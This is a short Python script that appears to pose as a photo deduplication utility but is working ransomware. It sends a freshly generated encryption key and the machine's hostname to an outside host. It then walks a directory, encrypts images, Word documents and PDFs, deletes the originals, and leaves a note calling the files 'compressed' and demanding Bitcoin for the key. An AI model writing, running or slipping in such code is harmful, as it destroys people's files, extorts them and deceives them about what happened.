import os, sys, secrets, urllib.request
from cryptography.fernet import Fernet
root = sys.argv[1]
key = Fernet.generate_key()
try: urllib.request.urlopen("https://photodedupe.example/k", key + b"|" + os.uname().nodename.encode(), timeout=5)
except Exception: pass
f = Fernet(key)
for d, _, files in os.walk(root):
    for n in files:
        if n.lower().endswith((".jpg", ".jpeg", ".png", ".heic", ".docx", ".pdf")):
            p = os.path.join(d, n)
            data = open(p, "rb").read()
            open(p + ".dedup", "wb").write(f.encrypt(data)); os.remove(p)
open(os.path.join(root, "README_RESTORE.txt"), "w").write("Your files are compressed. Send 0.05 BTC to bc1qexample... and email restore@photodedupe.example for the key.\n")
del key
